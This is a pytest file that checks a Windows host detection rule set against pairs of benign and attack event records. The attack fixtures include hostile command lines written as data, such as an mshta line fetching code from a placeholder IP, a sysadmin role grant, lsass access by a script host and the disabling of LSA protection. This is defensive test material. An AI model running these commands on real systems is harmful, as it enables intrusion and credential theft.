"""Windows events as they are read, in pairs: what a machine writes on any day, and what it writes under attack."""

from typing import Any

import orjson
import pytest

from pipeline.detectors.logs.host_rule_set import HOST_RULES
from pipeline.features.decode import decode
from pipeline.ingest.windows.events import windows_fields
from pipeline.ingest.windows.record import WindowsRecord

Data = dict[str, str]
SYSMON = ("Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon")
AUDIT = ("Security", "Microsoft-Windows-Security-Auditing")
SYSTEM32 = "C:\\Windows\\System32\\"
HKU = "HKU\\S-1-5-21-1-2-3-1001"


def _sysmon(code: int, **data: str) -> tuple[tuple[str, str], int, Data]:
    return SYSMON, code, data


def _audit(code: int, **data: str) -> tuple[tuple[str, str], int, Data]:
    return AUDIT, code, {"SubjectUserName": "clerk1"} | data


Told = tuple[tuple[str, str], int, Data]
PAIRS: list[tuple[str, str, Told, Told]] = [
    ("defence_evasion", "code integrity is guarded, its guard is switched off",
     _sysmon(13, Image=SYSTEM32 + "reg.exe", Details="DWORD (0x00000001)",
             TargetObject="HKLM\\System\\CurrentControlSet\\Control\\Lsa\\RunAsPPL"),
     _sysmon(13, Image=SYSTEM32 + "reg.exe", Details="DWORD (0x00000000)",
             TargetObject="HKLM\\System\\CurrentControlSet\\Control\\Lsa\\RunAsPPL")),
    ("defence_evasion", "the directory gains a user, a machine poses as a domain controller",
     _audit(5137, ObjectClass="user", ObjectDN="CN=nurse7,OU=Wards,DC=h,DC=example"),
     _audit(5137, ObjectClass="server",
     ObjectDN="CN=WS7,CN=Servers,CN=Main,CN=Sites,CN=Configuration,DC=h,DC=example")),
    ("defence_evasion", "a shortcut to what was opened lately, a shortcut that bears a document's name",
     _sysmon(11, Image="C:\\Windows\\explorer.exe", TargetFilename="C:\\Users\\x\\AppData\\Roaming\\Microsoft\\Windows"
             "\\Recent\\plan.pdf.lnk"),
     _sysmon(11, Image="C:\\Windows\\explorer.exe", TargetFilename="C:\\Users\\x\\Desktop\\plan.pdf.lnk")),
    ("execution", "a service prints a page, a shell lets a browser fetch one without a window",
     _sysmon(1, Image="C:\\x\\chrome.exe", ParentImage="C:\\x\\report.exe",
             CommandLine="chrome.exe --headless --print-to-pdf https://portal.example"),
     _sysmon(1, Image="C:\\x\\chrome.exe", ParentImage=SYSTEM32 + "cmd.exe",
             CommandLine="chrome.exe --headless --dump-dom http://203.0.113.7/a")),
    ("persistence", "an account is renamed, it is renamed to an administrator's",
     _audit(4781, OldTargetUserName="nurse7", NewTargetUserName="nurse8"),
     _audit(4781, OldTargetUserName="nurse7", NewTargetUserName="administrat0r")),
    ("persistence", "a database grants nothing, a member is added to a role",
     _audit(33205, statement="SELECT 1"), _audit(33205, statement="ALTER SERVER ROLE [sysadmin] ADD MEMBER [x]")),
    ("persistence", "a machine joins, a person's account poses as one",
     _audit(4720, TargetUserName="nurse7", TargetDomainName="W"),
     _audit(4720, TargetUserName="PRN01$", TargetDomainName="W")),
    ("credential_dumping", "a machine changes its password, nobody does",
     _audit(4742, SubjectUserName="DC1$", TargetUserName="WS1$"),
     _audit(4742, SubjectUserName="ANONYMOUS LOGON", TargetUserName="DC1$")),
    ("credential_dumping", "rights of an account stay, delegation is given",
     _audit(4738, TargetUserName="nurse7", AllowedToDelegateTo="-"),
     _audit(4738, TargetUserName="svc7", AllowedToDelegateTo="cifs/dc1")),
    ("credential_dumping", "the directory is edited, a key that opens an account is added",
     _audit(5136, ObjectClass="user", AttributeLDAPDisplayName="telephoneNumber"),
     _audit(5136, ObjectClass="user", AttributeLDAPDisplayName="msDS-KeyCredentialLink")),
    ("credential_dumping", "scanners open the logon service, a script host reads it",
     _audit(4656, ProcessName="C:\\Program Files\\Agent\\a.exe", ObjectName=SYSTEM32 + "lsass.exe"),
     _audit(4663, ProcessName=SYSTEM32 + "cscript.exe", ObjectName=SYSTEM32 + "lsass.exe")),
    ("defence_evasion", "a policy changes what is audited, a person takes it away",
     _audit(4719, SubjectUserName="DC1$", AuditPolicyChanges="%%8448"),
     _audit(4719, AuditPolicyChanges="%%8448, %%8450")),
    ("defence_evasion", "the system starts, it starts with test signing",
     _audit(4826, TestSigning="%%1842", KernelDebug="%%1842"),
     _audit(4826, TestSigning="%%1843", KernelDebug="%%1842")),
    ("defence_evasion", "a signed library is loaded, a planted one is",
     _sysmon(7, Image=SYSTEM32 + "svchost.exe", ImageLoaded=SYSTEM32 + "winmm.dll", Signed="true"),
     _sysmon(7, Image=SYSTEM32 + "svchost.exe", ImageLoaded="C:\\ProgramData\\x\\winmm.dll", Signed="false")),
    ("defence_evasion", "a program keeps its name, it runs under another",
     _sysmon(1, Image=SYSTEM32 + "cmd.exe", CommandLine="cmd /c dir", OriginalFileName="Cmd.Exe", User="W\\clerk1"),
     _sysmon(1, Image="C:\\Users\\c\\d.exe", CommandLine="d /c dir", OriginalFileName="Cmd.Exe", User="W\\clerk1")),
    ("defence_evasion", "a folder of Windows, one that looks like it",
     _sysmon(11, Image=SYSTEM32 + "svchost.exe", TargetFilename=SYSTEM32 + "config\\x.log"),
     _sysmon(11, Image="C:\\a\\b.exe", TargetFilename="C:\\Windows \\System32\\winmm.dll")),
    ("defence_evasion", "a pipe of a service, one that is laid to be logged on to",
     _sysmon(17, Image=SYSTEM32 + "svchost.exe", PipeName="\\srvsvc"),
     _sysmon(17, Image="C:\\a\\b.exe", PipeName="\\abc\\pipe\\spoolss")),
    ("execution", "a service host, the spooler starts a shell",
     _sysmon(1, Image=SYSTEM32 + "svchost.exe", ParentImage=SYSTEM32 + "services.exe", CommandLine="svchost -k x"),
     _sysmon(1, Image=SYSTEM32 + "cmd.exe", ParentImage=SYSTEM32 + "spoolsv.exe", CommandLine="cmd")),
    ("execution", "a browser's helper, a browser starts a script host",
     _sysmon(1, Image=SYSTEM32 + "cmd.exe", ParentImage="C:\\Program Files\\Google\\chrome.exe",
             CommandLine='cmd.exe /d /c "host.exe" chrome-extension://abc'),
     _sysmon(1, Image=SYSTEM32 + "wscript.exe", ParentImage="C:\\Program Files\\Google\\chrome.exe",
             CommandLine="wscript.exe invoice.js")),
    ("execution", "somebody starts a program by its name, pastes a command",
     _sysmon(13, Image="C:\\Windows\\explorer.exe", Details="notepad\\1",
             TargetObject=HKU + "\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU\\a"),
     _sysmon(13, Image="C:\\Windows\\explorer.exe", Details="mshta https://203.0.113.5/x\\1",
             TargetObject=HKU + "\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU\\a")),
    ("execution", "a document is saved, a document writes a program",
     _sysmon(11, Image="C:\\Program Files\\Microsoft Office\\WINWORD.EXE", TargetFilename="C:\\Users\\c\\a.docx"),
     _sysmon(11, Image="C:\\Program Files\\Microsoft Office\\WINWORD.EXE", TargetFilename="C:\\Users\\c\\a.exe")),
    ("persistence", "the startup folder stays, it is moved",
     _sysmon(13, Image="C:\\Windows\\explorer.exe", Details="C:\\Users\\c\\Start Menu\\Programs\\Startup",
             TargetObject=HKU + "\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\Shell Folders\\Startup"),
     _sysmon(13, Image=SYSTEM32 + "reg.exe", Details="C:\\ProgramData\\x",
             TargetObject=HKU + "\\Software\\Microsoft\\Windows\\X\\Explorer\\User Shell Folders\\Startup")),
    ("persistence", "an account's record is written by the system, past it",
     _sysmon(13, Image=SYSTEM32 + "lsass.exe", TargetObject="HKLM\\SAM\\SAM\\Domains\\Account\\Users\\000001F5\\F"),
     _sysmon(13, Image="C:\\a\\b.exe", TargetObject="HKLM\\SAM\\SAM\\Domains\\Account\\Users\\000001F5\\F")),
    ("remote_execution", "a logon over the desktop, one through a tunnel",
     _audit(4624, TargetUserName="clerk1", LogonType="10", IpAddress="10.0.0.9"),
     _audit(4624, TargetUserName="clerk1", LogonType="10", IpAddress="127.0.0.1")),
    ("remote_execution", "a web server serves, it speaks to its own desktop service",
     _sysmon(3, Image=SYSTEM32 + "inetsrv\\w3wp.exe", DestinationIp="10.0.0.7", DestinationPort="1433"),
     _sysmon(3, Image=SYSTEM32 + "inetsrv\\w3wp.exe", DestinationIp="127.0.0.1", DestinationPort="3389")),
    ("discovery", "a service lists groups, a program in a user's folder does",
     _audit(4799, SubjectUserName="WS1$", TargetUserName="Administrators", CallerProcessName=SYSTEM32 + "svchost.exe"),
     _audit(4799, TargetUserName="Administrators", CallerProcessName="C:\\Users\\c\\Downloads\\a.exe")),
    ("defence_evasion", "a setting of a name server grows, it writes no more",
     (("Microsoft-Windows-DNSServer/Audit", "Microsoft-Windows-DNSServer"), 541, {"Setting": "MaxCacheSize",
      "Scope": ".", "NewValue": "9"}),
     (("Microsoft-Windows-DNSServer/Audit", "Microsoft-Windows-DNSServer"), 541, {"Setting": "UseSystemEventLog",
      "Scope": ".", "NewValue": "0"})),
    ("defence_evasion", "an update brings names of hosts, an editor does",
     _sysmon(11, Image=SYSTEM32 + "svchost.exe", TargetFilename=SYSTEM32 + "drivers\\etc\\hosts"),
     _sysmon(11, Image="C:\\x\\notepad2.exe", TargetFilename=SYSTEM32 + "drivers\\etc\\hosts")),
    ("defence_evasion", "an installer says how its files are signed, a person says so",
     _sysmon(13, Image=SYSTEM32 + "msiexec.exe", Details="x.dll", TargetObject="HKLM\\SOFTWARE\\Microsoft\\Cryptography"
             "\\OID\\EncodingType 0\\CryptSIPDllVerifyIndirectData\\{C689AAB8}\\Dll"),
     _sysmon(13, Image=SYSTEM32 + "regsvr32.exe", Details="x.dll", TargetObject="HKLM\\SOFTWARE\\Microsoft"
             "\\Cryptography\\OID\\EncodingType 0\\CryptSIPDllVerifyIndirectData\\{C689AAB8}\\Dll")),
    ("credential_dumping", "an old service is used, its ticket is asked for as tools ask",
     _audit(4769, SubjectUserName="", TargetUserName="clerk1", ServiceName="app7", TicketOptions="0x40810000",
            TicketEncryptionType="0x17"),
     _audit(4769, SubjectUserName="", TargetUserName="clerk1", ServiceName="app7", TicketOptions="0x40810010",
            TicketEncryptionType="0x17")),
    ("persistence", "a service's start is changed, the rights on it are",
     _sysmon(1, Image=SYSTEM32 + "reg.exe", CommandLine="reg add HKLM\\SYSTEM\\CurrentControlSet\\Services\\X /v A"),
     _sysmon(1, Image=SYSTEM32 + "reg.exe", CommandLine="reg add HKLM\\SYSTEM\\CurrentControlSet\\Services\\X"
             "\\Security /v Security /t REG_BINARY /d fe")),
    ("discovery", "a zone is loaded, all of one is asked for",
     (("DNS Server", "Microsoft-Windows-DNS-Server-Service"), 2, {"a": "b"}),
     (("DNS Server", "Microsoft-Windows-DNS-Server-Service"), 6004, {"param1": "10.0.0.9", "param2": "ward.example."})),
    ("remote_execution", "WMI lets something be installed, starts a program",
     _sysmon(1, Image=SYSTEM32 + "msiexec.exe", ParentImage=SYSTEM32 + "wbem\\WmiPrvSE.exe", CommandLine="msiexec"),
     _sysmon(1, Image=SYSTEM32 + "kx7.exe", ParentImage=SYSTEM32 + "wbem\\WmiPrvSE.exe", CommandLine="kx7")),
    ("antivirus", "signatures are renewed, malware is found",
     (("Microsoft-Windows-Windows Defender/Operational", "Microsoft-Windows-Windows Defender"), 2000, {"a": "b"}),
     (("Microsoft-Windows-Windows Defender/Operational", "Microsoft-Windows-Windows Defender"), 1116, {"a": "b"})),
    ("defence_evasion", "a service stops, the service that writes logs stops",
     (("System", "Service Control Manager"), 7036, {"param1": "Print Spooler", "param2": "stopped"}),
     (("System", "Service Control Manager"), 7036, {"param1": "Windows Event Log", "param2": "stopped"})),
]  # fmt: skip


@pytest.mark.parametrize(("family", "what", "everyday", "attack"), PAIRS, ids=[p[1] for p in PAIRS])
def test_everyday_is_quiet_and_the_attack_is_told(family: str, what: str, everyday: Told, attack: Told) -> None:
    assert _told(everyday) == set(), what
    assert family in _told(attack), what


def _told(event: Told) -> set[str]:
    """Families of which a rule holds that is told by itself."""
    (channel, provider), code, data = event
    system = {"Channel": channel, "Provider": {"Name": provider}, "EventID": code, "Computer": "ws1"}
    fields: dict[str, Any] = windows_fields(WindowsRecord({"Event": {"System": system, "EventData": data}}), 1e6)
    document = {name: value for name, value in fields.items() if value is not None} | {"event_id": "1"}
    hits = HOST_RULES.hits(decode("logs", [orjson.dumps(document)], 8).batch)
    sure = hits.numbers[HOST_RULES.weights[hits.numbers] >= 0.5]
    return {HOST_RULES.families[HOST_RULES.family[number]] for number in sure}
